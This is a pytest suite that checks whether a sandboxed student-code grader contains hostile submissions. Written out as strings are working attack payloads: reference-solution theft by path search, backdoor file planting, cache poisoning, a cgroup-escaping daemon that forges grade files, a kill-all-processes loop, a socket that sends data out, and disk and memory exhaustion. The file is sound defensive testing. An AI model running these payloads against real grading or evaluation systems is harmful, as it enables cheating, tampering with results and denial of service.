"""Hostile files in a class graded by `kata grade`, with every contestant in the OS sandbox.

One class is graded once. Each attacker does its attack once per file (the first check) and then
computes the answer; its twin without the attack says what it must score. Properties: the
attacker scores exactly what its twin scores, the correct neighbours keep full marks, nothing
outside the scratch area changed, no process of the class is left, every student was graded.
Where the sandbox cannot work these tests skip with the reason (and fail under CI).
"""

import json
import socket
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest
from conftest import need_sandbox, processes_named

from grader.content.catalogue import get_kata

SLUG = "group_advantages"
REFERENCE = get_kata(SLUG).solution()
PROJECT = Path(__file__).resolve().parent.parent
HONEST_WRONG = "rewards - torch.stack([rewards[group_ids.eq(g)].mean() for g in group_ids])"  # centred, not scaled
DAEMON_NAME = "katadaemon"


def attacked(attack: str, answer: str | None = None) -> str:
    """The reference (or a function returning `answer`), with `attack` run once per file at import."""
    once = "import os\nif not os.path.exists('.attacked'):\n    open('.attacked', 'w').close()\n"
    code = once + textwrap.indent(textwrap.dedent(attack).strip(), "    ") + "\n"
    if answer is None:
        return code + REFERENCE
    return code + f"import torch\n\ndef compute_group_advantages(rewards, group_ids, eps=1e-6):\n    return {answer}\n"


def attacks(out: Path, port: int, temporary: Path) -> dict[str, tuple[str, str | None]]:
    """{student: (attack, answer)}; answer None is the reference. `temporary`: the run's TMPDIR."""
    return {
        "by_path": (
            """
            import glob, importlib.util, types
            stolen = None
            try:
                spec = importlib.util.find_spec("reference")
                places = list(spec.submodule_search_locations or [])
            except (ImportError, AttributeError):
                places = []
            places += [f"{PROJECT}/reference"] + glob.glob("/*/reference") + glob.glob("/*/*/reference")
            places += [os.path.join(path, "reference") for path in __import__("sys").path if path]
            for place in places:
                try:
                    source = open(os.path.join(place, "group_advantages.py")).read()
                except OSError:
                    continue
                module = types.ModuleType("stolen")
                exec(source, module.__dict__)
                stolen = module.compute_group_advantages
                break
            if stolen is not None:
                open("/proc/self/cwd/../stolen", "w").write("1")
            """.replace("{PROJECT}", str(PROJECT)),
            HONEST_WRONG,
        ),
        "planter": (
            """
            import glob, importlib.util, sys
            targets = [f"{PROJECT}/katas/group_advantages/__pycache__/checks.cpython-311.pyc",
                       f"{PROJECT}/grader/planted.py", f"{PROJECT}/katas/planted.py"]
            targets += [os.path.join(path, "planted.py") for path in sys.path if path]
            for target in targets:
                try:
                    os.makedirs(os.path.dirname(target), exist_ok=True)
                    open(target, "w").write("raise SystemExit('backdoor')")
                except OSError:
                    pass
            """.replace("{PROJECT}", str(PROJECT)),
            None,
        ),
        "run_folder": (  # the run's private folder, where it remembers how each known mistake fails each check
            f"""
            import glob
            for folder in glob.glob("{temporary}/kata-grade-*") + glob.glob("/tmp/kata-grade-*"):
                open(".seen", "w").close()  # seen: the answer below tells the grade sheet
                try:
                    os.makedirs(folder + "/fingerprints", exist_ok=True)
                    open(folder + "/fingerprints/group_advantages-planted.json", "w").write("{{}}")
                except OSError:
                    pass
            """,
            f"rewards * float('nan') if os.path.exists('.seen') else {HONEST_WRONG}",
        ),
        "daemon": (
            f"""
            import ctypes, glob, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    ctypes.CDLL(None).prctl(15, b"{DAEMON_NAME}", 0, 0, 0)
                    for procs in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True):
                        try:
                            open(procs, "w").write(str(os.getpid()))
                        except OSError:
                            pass
                    time.sleep(4)
                    for name in ("grades.csv", "grades.json"):
                        try:
                            open("{out}/" + name, "w").write("forged")
                        except OSError:
                            pass
                    time.sleep(30)
                os._exit(0)
            """,
            None,
        ),
        "killer": (
            """
            import signal
            for entry in os.listdir("/proc"):
                if entry.isdigit() and int(entry) not in (os.getpid(), 1):
                    try:
                        os.kill(int(entry), signal.SIGKILL)
                    except OSError:
                        pass
            """,
            None,
        ),
        "network": (
            f"""
            import socket
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
            except OSError:
                pass
            """,
            None,
        ),
        "filler": (
            """
            chunk = b"x" * 2**20
            for place in ("fill.bin", os.path.expanduser("~/fill2.bin"), "/tmp/fill3.bin"):
                try:
                    with open(place, "wb") as handle:
                        for _ in range(2048):
                            handle.write(chunk)
                except OSError:
                    pass
            for name in ("fill.bin", os.path.expanduser("~/fill2.bin"), "/tmp/fill3.bin"):
                try:
                    os.remove(name)
                except OSError:
                    pass
            """,
            None,
        ),
        "spreader": (
            """
            import time
            children = []
            for _ in range(4):
                pid = os.fork()
                if pid == 0:
                    try:
                        blob = bytearray(400 * 2**20)
                        for i in range(0, len(blob), 4096):
                            blob[i] = 1
                        time.sleep(2)
                    finally:
                        os._exit(0)
                children.append(pid)
            for pid in children:
                os.waitpid(pid, 0)
            """,
            None,
        ),
    }


def daemons() -> list[int]:
    return processes_named(DAEMON_NAME)


def project_files() -> dict[str, float]:
    found = {}
    for top in ("grader", "katas", "reference"):
        for path in (PROJECT / top).rglob("*"):
            found[str(path)] = path.stat().st_mtime
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory, kata_main):
    need_sandbox()
    root = tmp_path_factory.mktemp("sandboxed")
    submissions, out = root / "submissions", root / "grades"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    connections: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
                connections.append(connection.recv(100))
            except OSError:
                pass

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    temporary = root / "tmp"  # the run's TMPDIR (and its workers'): empty again when it is done
    temporary.mkdir()
    students = {"ada": REFERENCE, "honest": attacked("pass", HONEST_WRONG), "zed": REFERENCE}
    for student, (attack, answer) in attacks(out, listener.getsockname()[1], temporary).items():
        students[student] = attacked(attack, answer)
        students[f"{student}_twin"] = attacked("pass", answer)
    for student, text in students.items():
        (submissions / student).mkdir(parents=True)
        (submissions / student / f"{SLUG}.py").write_text(text, encoding="utf-8")
    before = project_files()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TMPDIR", str(temporary))
        patch.setattr(tempfile, "tempdir", None)
        result = kata_main("grade", submissions, "--out", out, "--workers", "2", "--timeout", "5", "--memory", "256")
    left_right_after = daemons()
    time.sleep(5)  # what a daemon would do later, it would have done by now
    stop.set()
    thread.join()
    listener.close()
    sheet = json.loads((out / "grades.json").read_text(encoding="utf-8"))
    return {
        "result": result,
        "sheet": sheet,
        "out": out,
        "daemons": left_right_after + daemons(),
        "changed": {path for path, mtime in project_files().items() if before.get(path) != mtime},
        "connections": connections,
        "stolen": (submissions.parent / "stolen").exists(),
        "left_in_tmp": sorted(path.name for path in temporary.iterdir()),
    }


def score(graded, student):
    return graded["sheet"]["students"][student][SLUG]["score"]


def test_every_student_was_graded_in_the_sandbox(graded):
    assert graded["result"].status == 0, graded["result"].output
    for student, entry in graded["sheet"]["students"].items():
        assert entry[SLUG]["status"] == "graded", student
        assert entry[SLUG]["sandboxed"] is True, student


@pytest.mark.parametrize("student", sorted(attacks(Path("/"), 0, Path("/"))))
def test_an_attack_scores_exactly_what_its_twin_scores(graded, student):
    assert score(graded, student) == score(graded, f"{student}_twin")


def test_correct_neighbours_keep_full_marks(graded):
    assert score(graded, "ada") == score(graded, "zed") == 1.0
    assert score(graded, "honest") < 1.0


def test_the_reference_cannot_be_found_by_path(graded):
    assert not graded["stolen"]
    assert score(graded, "by_path") == score(graded, "honest")


def test_nothing_outside_the_scratch_area_changed(graded):
    assert graded["changed"] == set()


def test_the_run_leaves_nothing_in_the_temporary_folder(graded):
    assert graded["left_in_tmp"] == []


def test_no_daemon_outlives_its_file_or_rewrites_the_outputs(graded):
    assert graded["daemons"] == []
    assert (graded["out"] / "grades.csv").read_text(encoding="utf-8") != "forged"
    assert json.loads((graded["out"] / "grades.json").read_text(encoding="utf-8"))["students"]


def test_no_connection_reaches_a_listener_on_the_loopback(graded):
    assert graded["connections"] == []


def test_without_bwrap_kata_grade_refuses_in_one_line(tmp_path, kata_main, monkeypatch):
    from grader.run import sandbox

    (tmp_path / "ada").mkdir()
    (tmp_path / "ada" / f"{SLUG}.py").write_text(REFERENCE)
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    run = kata_main("grade", tmp_path, "--out", tmp_path / "out")
    assert run.status == 1 and not (tmp_path / "out").exists()
    assert run.err.strip().count("\n") == 0 and "apt-get install bubblewrap" in run.err and "--no-sandbox" in run.err


def test_no_sandbox_is_said_in_the_output_the_json_and_each_junit_file(kata_main, tmp_path):
    (tmp_path / "class" / "ada").mkdir(parents=True)
    (tmp_path / "class" / "ada" / f"{SLUG}.py").write_text(REFERENCE)
    out = tmp_path / "out"
    result = kata_main("grade", tmp_path / "class", "--out", out, "--no-sandbox")
    assert result.status == 0, result.output
    assert "without the sandbox" in result.output
    entry = json.loads((out / "grades.json").read_text())["students"]["ada"][SLUG]
    assert entry["score"] == 1.0 and entry["sandboxed"] is False
    assert '<property name="sandboxed" value="false"' in (out / "junit" / "ada.xml").read_text()


def test_leftover_boxes_of_killed_runs_are_cleaned_and_live_ones_kept():
    from grader.run import containment

    if not containment.available():
        pytest.skip("no writable cgroups here (not root, or no pids/memory controller)")
    live = containment.Box()
    dead = [root / f"{containment.PREFIX}999999999-0" for root in containment.hierarchies()]
    for path in dead:
        path.mkdir()
    try:
        assert containment.clean_leftovers() == len(dead)
        assert not any(path.exists() for path in dead) and all(path.exists() for path in live.paths)
    finally:
        live.close()
